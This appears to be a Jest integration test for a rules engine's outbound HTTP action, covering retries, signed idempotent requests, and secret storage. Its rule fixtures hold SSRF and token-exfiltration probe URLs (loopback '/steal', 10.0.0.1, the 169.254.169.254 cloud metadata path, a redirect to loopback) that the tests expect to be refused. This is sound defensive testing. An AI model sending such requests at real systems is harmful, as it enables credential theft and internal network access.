// The http-request action end to end: a signed event, the rule, the egress layer, a real local
// receiver (the test's own server) that verifies signatures and applies each Idempotency-Key once,
// the sandbox CRM for the field the answer fills in. Nothing mocked. Also the SSRF refusal table:
// each refusal recorded on the action row with its reason, and nothing sent.
import { DataSource } from 'typeorm';
import { crm, eventually, Harness, newContact, startHarness } from '../../support/engine-harness';
import { api } from '../../support/http';
import { startReceiver, type Receiver } from '../../support/http-receiver';

jest.setTimeout(120_000);

const SIGNING_SECRET = 'engine-signing-secret-0123456789abcdef';
const ERP_TOKEN = 'erp-token-9f8e7d6c5b4a';
// Retries wait for the job's backoff (1 s, 2 s, ...): polls allow for a loaded machine.
const SETTLED_MS = 90_000;

const rules = (erp: string, victimPort: number) => ({
  'flaky.yaml': `
rule: flaky
on: contact.created
if: { fact: contact.name, operator: matches, value: "^Flaky" }
do:
  - http-request: { name: notify, url: "${erp}/orders/flaky", body: { contactId: "{{contact.id}}" }, timeout: 10s }
`,
  'slow.yaml': `
rule: slow
on: contact.created
if: { fact: contact.name, operator: matches, value: "^Slow" }
do:
  - http-request: { name: notify, url: "${erp}/orders/slow", body: { contactId: "{{contact.id}}" }, timeout: 1s }
`,
  'down.yaml': `
rule: down
on: contact.created
if: { fact: contact.name, operator: matches, value: "^Down" }
do:
  - http-request: { name: notify, url: "${erp}/orders/down", body: { contactId: "{{contact.id}}" }, timeout: 1s }
`,
  'echo.yaml': `
rule: echo
on: contact.created
if: { fact: contact.name, operator: matches, value: "^Echo" }
do:
  - http-request:
      name: echo
      method: GET
      url: "${erp}/echo/{{contact.id}}"
      headers: { Authorization: "Bearer \${secret.ERP_TOKEN}" }
      save: { echo: "$.echo" }
`,
  'elsewhere.yaml': `
rule: elsewhere
on: contact.created
if: { fact: contact.name, operator: matches, value: "^Elsewhere" }
do:
  - http-request:
      name: leak
      method: GET
      url: "http://{{contact.customFields.company}}:${victimPort}/steal"
      headers: { Authorization: "Bearer \${secret.ERP_TOKEN}" }
`,
  'missing.yaml': `
rule: missing
on: contact.created
if: { fact: contact.name, operator: matches, value: "^Missing" }
do:
  - http-request: { name: lookup, method: GET, url: "${erp}/orders/missing/{{contact.id}}" }
  - add-tag: vip
`,
  'lookup.yaml': `
rule: lookup
on: contact.created
if: { fact: contact.name, operator: matches, value: "^Lookup" }
do:
  - http-request:
      name: erp-lookup
      method: GET
      url: "${erp}/accounts/{{contact.name}}"
      headers: { Authorization: "Bearer \${secret.ERP_TOKEN}" }
      save: { company: "$.account.company", orderStatus: "$.orders[0].status" }
  - set-field: { key: company, value: "{{steps.erp-lookup.company}} ({{steps.erp-lookup.orderStatus}})" }
`,
  'durable.yaml': `
rule: durable
on: contact.created
if: { fact: contact.name, operator: matches, value: "^Durable" }
do:
  - http-request:
      name: erp-lookup
      method: GET
      url: "${erp}/accounts/{{contact.name}}"
      headers: { Authorization: "Bearer \${secret.ERP_TOKEN}" }
      save: { company: "$.account.company" }
      timeout: 60s
  - set-field: { key: company, value: "{{steps.erp-lookup.company}}" }
`,
  'refusals.yaml': [
    ['refuse-loopback', '^Refuse127', `http://127.0.0.1:${victimPort}/steal`],
    ['refuse-private', '^Refuse10', 'http://10.0.0.1/steal'],
    ['refuse-metadata', '^RefuseMeta', 'http://169.254.169.254/latest/meta-data/'],
    ['refuse-name', '^RefuseName', `http://localhost:${victimPort}/steal`],
    ['refuse-redirect', '^RefuseRedirect', `${erp}/redirect`],
    ['refuse-host', '^RefuseHost', 'https://not-allowed.example/steal'],
  ]
    .map(
      ([id, name, url]) => `
rule: ${id}
on: contact.created
if: { fact: contact.name, operator: matches, value: "${name}" }
do:
  - http-request: { name: call, url: "${url}", body: { contactId: "{{contact.id}}" } }
`,
    )
    .join('\n---\n'),
});

describe('http-request against a real receiver', () => {
  let h: Harness;
  let db: DataSource;
  let erp: Receiver;
  let victim: Receiver;
  const downAt: { body: string; at: number }[] = [];

  beforeAll(async () => {
    // The victim listens where rules must not reach (127.0.0.1); the ERP on 127.0.0.2, the one
    // range the test allows (HTTP_ACTION_ALLOW_PRIVATE).
    victim = await startReceiver('127.0.0.1', SIGNING_SECRET, { '/': () => ({ status: 200, json: {} }) });
    erp = await startReceiver('127.0.0.2', SIGNING_SECRET, {
      '/orders/flaky': (_req, seen) => (seen === 1 ? { status: 503 } : { status: 200, json: { ok: true } }),
      '/orders/slow': (_req, seen) => (seen === 1 ? 'hold' : { status: 200, json: { ok: true } }),
      '/orders/down': (req) => {
        downAt.push({ body: req.body, at: Date.now() });
        return { status: 503 };
      },
      '/echo/': (req) => ({ status: 200, json: { echo: req.headers.authorization } }),
      '/orders/missing': () => ({ status: 404, json: { error: 'no such order' } }),
      '/accounts/': (req) =>
        req.headers.authorization === `Bearer ${ERP_TOKEN}`
          ? { status: 200, json: { account: { company: 'Acme' }, orders: [{ status: 'shipped' }] } }
          : { status: 401 },
      '/redirect': () => ({ status: 307, headers: { location: `${victim.url}/steal` } }),
    });
    h = await startHarness({
      rules: rules(erp.url, victim.port),
      env: {
        HTTP_ACTION_ALLOWED_HOSTS: '127.0.0.2,127.0.0.1,localhost,10.0.0.1,169.254.169.254',
        HTTP_ACTION_ALLOW_PRIVATE: '127.0.0.2/32',
        HTTP_ACTION_SIGNING_SECRET: SIGNING_SECRET,
        HTTP_SECRET_ERP_TOKEN: ERP_TOKEN,
        HTTP_ACTION_SECRET_HOSTS: 'ERP_TOKEN=127.0.0.2',
        // One CRM 500 fails a job attempt (no gateway retries): the run's retry is a new job.
        CRM_MAX_RETRIES: '0',
      },
    });
    db = h.app.get(DataSource);
  });
  afterAll(async () => {
    await h?.stop();
    await erp?.close();
    await victim?.close();
  });

  /** The http-request row of the contact's run, once the run has finished. */
  const settled = (contactId: string, ruleId: string) =>
    eventually(async () => {
      const rows = await db.query(
        `SELECT a.status, a.error_code, a.error_message, a.http_status, a.attempts, a.saved, r.status AS run_status
           FROM action_results a JOIN runs r ON r.id = a.run_id
          WHERE r.contact_id = $1 AND r.rule_id = $2 ORDER BY a.action_index`,
        [contactId, ruleId],
      );
      return rows.length && !['pending', 'running'].includes(rows[0].run_status) ? rows : undefined;
    }, SETTLED_MS);
  const sentFor = (contactId: string) => erp.requests.filter((r) => r.body.includes(contactId));

  // A first attempt that times out before it reaches the receiver (a loaded machine) only adds an
  // attempt: what must hold is one key on every request, the receiver's answers, one application.
  it('retries after a 503 with the same key and signature scheme; the receiver applies it once', async () => {
    const contact = await newContact(h, 'Flaky Fiona');
    const [row] = await settled(contact.id, 'flaky');
    expect(row).toMatchObject({ status: 'succeeded', run_status: 'succeeded' });
    const sent = sentFor(contact.id);
    expect(sent.map((r) => r.answered)).toEqual([503, 200]);
    expect(row.attempts).toBeGreaterThanOrEqual(2);
    expect(new Set(sent.map((r) => r.key)).size).toBe(1);
    expect(sent.every((r) => r.signatureValid && r.path === '/orders/flaky')).toBe(true);
    expect(erp.applied.get(sent[0].key!)).toBe(1);
  });

  it('retries after a timeout with the same key; the receiver applies it once', async () => {
    const contact = await newContact(h, 'Slow Sam');
    const [row] = await settled(contact.id, 'slow');
    expect(row).toMatchObject({ status: 'succeeded' });
    const sent = sentFor(contact.id);
    expect(sent.map((r) => r.answered)).toEqual(['held', 200]);
    expect(new Set(sent.map((r) => r.key)).size).toBe(1);
    expect(erp.applied.get(sent[0].key!)).toBe(1);
  });

  // Finding: a failing request was attempted 23 times against 5 configured (observed 5 for 4
  // documented, the first retry 12-50 ms after the failure). HTTP_ACTION_MAX_ATTEMPTS (4) bounds
  // the sends on the action's row, and the first retry waits the backoff's first step (1 s).
  it('sends a request that keeps failing at most HTTP_ACTION_MAX_ATTEMPTS times, then dead', async () => {
    const contact = await newContact(h, 'Down Dan');
    const [row] = await settled(contact.id, 'down');
    expect(row).toMatchObject({ status: 'dead', error_code: 'http_status', http_status: 503, attempts: 4 });
    const sent = downAt.filter((r) => r.body.includes(contact.id));
    expect(sent).toHaveLength(4);
    expect(sent[1].at - sent[0].at).toBeGreaterThanOrEqual(900);
  });

  // Finding: a rule could send any secret to any allowed host, and `save:` stored an echoed secret
  // in action_results.saved (shown by the admin API and the console).
  it('refuses to store a saved value that holds a secret, saying why, storing nothing', async () => {
    const contact = await newContact(h, 'Echo Eve');
    const [row] = await settled(contact.id, 'echo');
    expect(row).toMatchObject({ status: 'failed', error_code: 'saved_value_holds_secret', saved: null });
    expect(row.error_message).toMatch(/save key "echo": it holds the value of secret ERP_TOKEN/);
    const stored = await db.query(
      `SELECT count(*)::int AS n FROM action_results a JOIN runs r ON r.id = a.run_id
        WHERE row_to_json(a)::text LIKE $1 OR row_to_json(r)::text LIKE $1`,
      [`%${ERP_TOKEN}%`],
    );
    expect(stored[0].n).toBe(0);
  });

  it('refuses a secret sent to a host HTTP_ACTION_SECRET_HOSTS does not name, sending nothing', async () => {
    // A templated host: validate cannot know it (a written-out one is secret-host-not-allowed).
    const contact = await newContact(h, 'Elsewhere Ed', { customFields: { company: 'localhost' } });
    const [row] = await settled(contact.id, 'elsewhere');
    expect(row).toMatchObject({ status: 'failed', error_code: 'egress_secret_refused', attempts: 1 });
    expect(row.error_message).toMatch(/secret ERP_TOKEN may not be sent to localhost/);
    expect(victim.requests).toEqual([]);
  });

  it('ends a 404 failed at once, with the status on the row, and runs nothing after it', async () => {
    const contact = await newContact(h, 'Missing Mo');
    const rows = await settled(contact.id, 'missing');
    expect(rows[0]).toMatchObject({
      status: 'failed',
      error_code: 'http_status',
      http_status: 404,
    });
    expect(rows[1]).toMatchObject({ status: 'skipped' });
    expect(erp.requests.filter((r) => r.path === `/orders/missing/${contact.id}`)).toHaveLength(1);
    expect((await crm(h, 'GET', `/v1/contacts/${contact.id}`)).body.tags).toEqual([]);
  });

  it('maps the answer into a custom field with set-field, the secret sent and stored nowhere', async () => {
    const contact = await newContact(h, 'Lookup Lena');
    const rows = await settled(contact.id, 'lookup');
    expect(rows.map((r: { status: string }) => r.status)).toEqual(['succeeded', 'succeeded']);
    expect(rows[0].saved).toEqual({ company: 'Acme', orderStatus: 'shipped' });
    const after = (await crm(h, 'GET', `/v1/contacts/${contact.id}`)).body;
    expect(after.customFields.company).toBe('Acme (shipped)');
    const [sent] = erp.requests.filter((r) => r.path === `/accounts/${encodeURIComponent('Lookup Lena')}`);
    expect(sent.headers.authorization).toBe(`Bearer ${ERP_TOKEN}`);
    expect(sent.signatureValid).toBe(true);
    const stored = await db.query(
      `SELECT count(*)::int AS n FROM action_results a JOIN runs r ON r.id = a.run_id
        WHERE row_to_json(a)::text LIKE $1 OR row_to_json(r)::text LIKE $1`,
      [`%${ERP_TOKEN}%`],
    );
    expect(stored[0].n).toBe(0);
  });

  it('keeps saved values across a retried job: the request is not repeated, set-field reads them', async () => {
    await api(h.sandboxUrl, 'POST', '/_sandbox/faults', {
      kind: 'error500',
      count: 1,
      route: 'PATCH /v1/contacts/:contactId',
    });
    const contact = await newContact(h, 'Durable Dora');
    const rows = await settled(contact.id, 'durable');
    expect(rows.map((r: { status: string; attempts: number }) => [r.status, r.attempts])).toEqual([
      ['succeeded', 1],
      ['succeeded', 2],
    ]);
    expect((await crm(h, 'GET', `/v1/contacts/${contact.id}`)).body.customFields.company).toBe('Acme');
    expect(
      erp.requests.filter((r) => r.path === `/accounts/${encodeURIComponent('Durable Dora')}`),
    ).toHaveLength(1);
  });

  it.each([
    [
      '127.0.0.1 (loopback, not allowed)',
      'Refuse127',
      'refuse-loopback',
      'egress_address_refused',
      /127\.0\.0\.1: loopback/,
    ],
    ['10.0.0.1 (private)', 'Refuse10', 'refuse-private', 'egress_address_refused', /10\.0\.0\.1: private/],
    [
      '169.254.169.254 (metadata)',
      'RefuseMeta',
      'refuse-metadata',
      'egress_address_refused',
      /cloud-metadata/,
    ],
    [
      'localhost (a name that resolves to loopback)',
      'RefuseName',
      'refuse-name',
      'egress_address_refused',
      /resolved from localhost\): loopback/,
    ],
    [
      'a 307 redirect to 127.0.0.1',
      'RefuseRedirect',
      'refuse-redirect',
      'egress_address_refused',
      /127\.0\.0\.1: loopback/,
    ],
    [
      'a host off the allow-list',
      'RefuseHost',
      'refuse-host',
      'egress_host_not_allowed',
      /not on the allow-list/,
    ],
  ])('refuses %s with its reason on the row, and sends nothing', async (_what, name, rule, code, reason) => {
    const contact = await newContact(h, `${name} Rita`);
    const [row] = await settled(contact.id, rule);
    expect(row).toMatchObject({ status: 'failed', error_code: code, attempts: 1 });
    expect(row.error_message).toMatch(reason);
    expect(victim.requests).toEqual([]);
  });
});
